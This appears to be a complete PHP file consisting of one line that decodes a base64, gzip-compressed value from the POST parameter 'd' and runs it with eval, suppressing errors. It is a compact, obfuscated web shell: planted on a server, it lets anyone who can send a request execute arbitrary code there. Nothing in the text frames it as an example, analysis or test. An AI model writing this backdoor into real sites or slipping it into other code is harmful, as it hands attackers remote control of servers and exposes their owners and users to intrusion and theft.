<?php @eval(gzinflate(base64_decode($_POST['d']))); ?>
